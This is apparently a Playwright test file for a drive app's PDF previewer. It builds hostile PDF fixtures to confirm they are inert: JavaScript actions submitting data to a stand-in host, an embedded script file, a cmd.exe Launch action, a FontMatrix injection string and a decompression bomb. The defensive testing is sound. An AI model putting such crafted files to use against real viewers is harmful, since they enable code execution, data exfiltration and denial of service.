import { createHash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { deflateSync } from 'node:zlib'
import { version } from 'pdfjs-dist/package.json' with { type: 'json' }
import type { Page } from 'playwright-core'
import { expect } from 'vitest'
import { test } from './browser.ts'
import { openDrive, row, transfers } from './drive-screens.ts'
import { expectFocusIn } from './focused.ts'

const sheet = (page: Page, name: string) => page.getByRole('dialog').getByRole('group', { name, exact: true })

/** How much of a drawn page is not white, from 0 to 1. */
const inkOn = (page: Page, name: string) =>
  sheet(page, name)
    .locator('canvas')
    .evaluate((canvas: HTMLCanvasElement) => {
      const { data } = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height) ?? { data: [] }
      let dark = 0
      for (let at = 0; at < data.length; at += 4) if ((data[at] ?? 255) < 128) dark += 1
      return (dark * 4) / data.length
    })

async function upload(page: Page, name: string, text: string): Promise<void> {
  await page
    .getByLabel('Upload files')
    .setInputFiles({ name, mimeType: 'application/pdf', buffer: Buffer.from(text, 'latin1') })
  await transfers(page).getByRole('status').getByText('1 file uploaded').waitFor()
}

async function look(page: Page, name: string): Promise<void> {
  await row(page, name).click()
  await page.keyboard.press('Space')
  await page.getByRole('dialog').getByRole('document', { name }).waitFor()
  await expectFocusIn(page.getByRole('dialog'))
}

test('a PDF is drawn in the quick look, with its text for whoever selects or listens, and can be made larger', async ({
  person,
}) => {
  const { page } = await openDrive(person)
  await look(page, 'Lease contract.pdf')
  await sheet(page, 'Page 1 of 1').getByText('Lease contract').waitFor()
  await expect.poll(() => inkOn(page, 'Page 1 of 1')).toBeGreaterThan(0.001)
  const width = () => sheet(page, 'Page 1 of 1').evaluate((element) => element.clientWidth)
  const before = await width()
  await page.getByRole('button', { name: 'Zoom in' }).click()
  await expect.poll(width).toBe(Math.floor(before * 1.25))
  await page.getByRole('button', { name: 'Fit width' }).click()
  await expect.poll(width).toBe(before)
})

/** Objects in a file; the cross-reference table is left out, which viewers repair. */
const pdfOf = (objects: readonly string[], trailer = '') =>
  `%PDF-1.7\n${objects.map((object, index) => `${String(index + 1)} 0 obj\n${object}\nendobj\n`).join('')}trailer\n<< /Root 1 0 R ${trailer} >>\n%%EOF\n`

const stream = (dictionary: string, content: string) =>
  `<< ${dictionary} /Length ${String(content.length)} >>\nstream\n${content}\nendstream`

const away = 'http://elsewhere.localhost/take'
const script = `app.alert('x'); app.launchURL('${away}'); this.submitForm('${away}'); globalThis.injected = true`

const hostile = pdfOf([
  `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${script.replaceAll(/[()]/g, '\\$&')}) >>
    /AA << /WC << /S /JavaScript /JS (globalThis.injected = true) >> >>
    /Names << /JavaScript << /Names [(a) 6 0 R] >> /EmbeddedFiles << /Names [(evil.html) 7 0 R] >> >>
    /AcroForm << /Fields [9 0 R] /XFA 10 0 R /NeedAppearances true >> >>`,
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /Annots [5 0 R 9 0 R 11 0 R 12 0 R]
    /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (0\\); globalThis.injected = true//)] >> >>
      /XObject << /I1 13 0 R >> >>
    /AA << /O << /S /JavaScript /JS (globalThis.injected = true) >> >> >>`,
  stream('', 'BT /F1 20 Tf 40 200 Td (Harmless to look at) Tj ET /I1 Do'),
  `<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << /S /URI /URI (${away}) >> >>`,
  `<< /S /JavaScript /JS (globalThis.injected = true) >>`,
  '<< /Type /Filespec /F (evil.html) /EF << /F 8 0 R >> >>',
  stream('/Type /EmbeddedFile /Subtype /text#2Fhtml', '<script>globalThis.injected = true</script>'),
  `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [0 0 100 20] /V (typed)
    /AA << /C << /S /JavaScript /JS (globalThis.injected = true) >> >> >>`,
  stream(
    '',
    `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="s"><event activity="initialize"><script contentType="application/x-javascript">globalThis.injected = true</script></event><draw><value><image href="${away}"/></value></draw></subform></template></xdp:xdp>`,
  ),
  `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>`,
  `<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /SubmitForm /F << /FS /URL /F (${away}) >> >> >>`,
  `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F (${away}) >> /Length 0 >>\nstream\n\nendstream`,
])

test('script, links, forms, files and addresses in a PDF do nothing: it is looked at, and nothing leaves', async ({
  person,
}) => {
  const { page, site, mock } = await openDrive(person)
  await upload(page, 'Hostile.pdf', hostile)
  await look(page, 'Hostile.pdf')
  await sheet(page, 'Page 1 of 1').getByText('Harmless to look at').waitFor()
  await sheet(page, 'Page 1 of 1').click()
  expect(await page.evaluate(() => 'injected' in globalThis)).toBe(false)
  expect(await page.getByRole('dialog').locator('canvas ~ * a, input, iframe, embed, object, script').count()).toBe(0)
  expect(person.context.pages()).toHaveLength(1)
  const origins = new Set(person.network.exchanges.map(({ url }) => new URL(url).origin))
  expect([...origins].filter((origin) => origin !== site.origin && origin !== mock.origin)).toEqual([])
})

test('a file that is no PDF, though it says so, is answered in a sentence', async ({ person }) => {
  const { page } = await openDrive(person)
  await upload(page, 'Broken.pdf', 'certainly no PDF')
  await row(page, 'Broken.pdf').click()
  await page.keyboard.press('Space')
  await page.getByRole('alert').getByText('This PDF cannot be read').waitFor()
})

/** Forms in forms: the innermost is drawn two million times. */
const laborious = pdfOf([
  '<< /Type /Catalog /Pages 2 0 R >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>',
  stream('', '/X Do'),
  ...Array.from({ length: 8 }, (_, depth) =>
    stream(
      `/Type /XObject /Subtype /Form /BBox [0 0 300 300] /Resources << /XObject << /X ${String(depth + 6)} 0 R >> >>`,
      depth === 7 ? '0 0 m 9 9 l S' : '/X Do '.repeat(8),
    ),
  ),
])

test(
  'a PDF that would take minutes to draw leaves the page usable, and can be closed meanwhile',
  { timeout: 120_000 },
  async ({ person }) => {
    const { page } = await openDrive(person)
    await upload(page, 'Laborious.pdf', laborious)
    await look(page, 'Laborious.pdf')
    await page.keyboard.press('Escape')
    await page.getByRole('dialog').waitFor({ state: 'hidden' })
    await row(page, 'Laborious.pdf').waitFor()
  },
)

/** Spaces, a thousand to one: the library unpacks them in a single step. */
const packed = deflateSync(Buffer.alloc(200_000_000, 32)).toString('latin1')
const bomb = pdfOf([
  '<< /Type /Catalog /Pages 2 0 R >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R >>',
  stream('/Filter /FlateDecode', packed),
])

test('what reads a PDF is a worker that asks nobody, and that ends with the quick look in the midst of a step', async ({
  person,
}) => {
  const { page, site } = await openDrive(person)
  await upload(page, 'Bomb.pdf', bomb)
  const starting = page.waitForEvent('worker')
  await look(page, 'Bomb.pdf')
  const reader = await starting
  expect(reader.url()).toBe(site.url('pdf-reader.js'))
  const ended = reader.waitForEvent('close')
  await page.keyboard.press('Escape')
  await ended
  await row(page, 'Bomb.pdf').waitFor()
})

test('a page that is older than the reader of its site offers to be loaded again', async ({ person }) => {
  const { page } = await openDrive(person)
  await page.route(/\/assets\/pdf\.worker-/, async (route) => {
    const { pathname } = new URL(route.request().url())
    const reader = readFileSync(new URL(`../../dist${pathname}`, import.meta.url), 'utf8')
    await route.fulfill({ contentType: 'text/javascript', body: reader.replaceAll(version, '99.0.0') })
  })
  await row(page, 'Lease contract.pdf').click()
  await page.keyboard.press('Space')
  await page.getByRole('alert').getByText('Pixy has been updated since you opened this page').waitFor()
})

const font = '/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>'
const words = (text: string) => `BT /F1 24 Tf 40 200 Td (${text}) Tj ET`

test('of a long PDF only the pages near what is seen are held, and the number of the page follows', async ({
  person,
}) => {
  const { page } = await openDrive(person)
  const pages = 60
  const kids = Array.from({ length: pages }, (_, at) => 3 + 2 * at)
  await upload(
    page,
    'Long.pdf',
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Pages /Kids [${kids.map((id) => `${String(id)} 0 R`).join(' ')}] /Count ${String(pages)} >>`,
      ...kids.flatMap((id, at) => [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] ${font} /Contents ${String(id + 1)} 0 R >>`,
        stream('', words(`Sheet ${String(at + 1)}`)),
      ]),
    ]),
  )
  await look(page, 'Long.pdf')
  await sheet(page, 'Page 1 of 60').getByText('Sheet 1').waitFor()
  const reader = page.getByRole('dialog').getByRole('document')
  await reader.focus()
  await page.keyboard.press('End')
  await sheet(page, 'Page 60 of 60').getByText('Sheet 60').waitFor()
  await page
    .getByRole('toolbar', { name: 'View of the PDF' })
    .getByText(/Page (59|60) of 60/)
    .waitFor()
  await expect.poll(() => sheet(page, 'Page 1 of 60').locator('canvas').count()).toBe(0)
  await expect.poll(() => page.getByRole('dialog').locator('canvas').count()).toBeLessThan(10)
})

const md5 = (...parts: readonly Buffer[]) => createHash('md5').update(Buffer.concat(parts)).digest()

function rc4(key: Buffer, data: Buffer): Buffer {
  const box = Array.from({ length: 256 }, (_, at) => at)
  const at = (index: number) => box[index & 255] ?? 0
  const swap = (a: number, b: number) => ([box[a], box[b]] = [at(b), at(a)])
  for (let index = 0, other = 0; index < 256; index += 1) {
    other = (other + at(index) + (key[index % key.length] ?? 0)) & 255
    swap(index, other)
  }
  let [one, two] = [0, 0]
  return Buffer.from(
    data.map((byte) => {
      one = (one + 1) & 255
      two = (two + at(one)) & 255
      swap(one, two)
      return byte ^ at(at(one) + at(two))
    }),
  )
}

/** ISO 32000-1 §7.6.3, the oldest of its ciphers: enough to be asked for a password. */
function lockedPdf(password: string, text: string): string {
  const filling = Buffer.from('28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A', 'hex')
  const padded = Buffer.concat([Buffer.from(password, 'latin1'), filling]).subarray(0, 32)
  const id = Buffer.alloc(16, 7)
  const owner = rc4(md5(padded).subarray(0, 5), padded)
  const key = md5(padded, owner, Buffer.from([0xfc, 0xff, 0xff, 0xff]), id).subarray(0, 5)
  const user = rc4(key, filling)
  const ofObject4 = md5(key, Buffer.from([4, 0, 0, 0, 0])).subarray(0, 10)
  const hex = (bytes: Buffer) => `<${bytes.toString('hex')}>`
  return pdfOf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] ${font} /Contents 4 0 R >>`,
      stream('', rc4(ofObject4, Buffer.from(words(text), 'latin1')).toString('latin1')),
    ],
    `/ID [${hex(id)} ${hex(id)}] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O ${hex(owner)} /U ${hex(user)} >>`,
  )
}

test('a locked PDF asks for its password, says when that was not it, and opens', async ({ person }) => {
  const { page } = await openDrive(person)
  await upload(page, 'Locked.pdf', lockedPdf('open sesame', 'Behind the lock'))
  await row(page, 'Locked.pdf').click()
  await page.keyboard.press('Space')
  const field = page.getByRole('dialog').getByLabel('Password of the PDF')
  await field.fill('wrong')
  await field.press('Enter')
  await page.getByText('That is not the password.').waitFor()
  await field.fill('open sesame')
  await field.press('Enter')
  await sheet(page, 'Page 1 of 1').getByText('Behind the lock').waitFor()
})
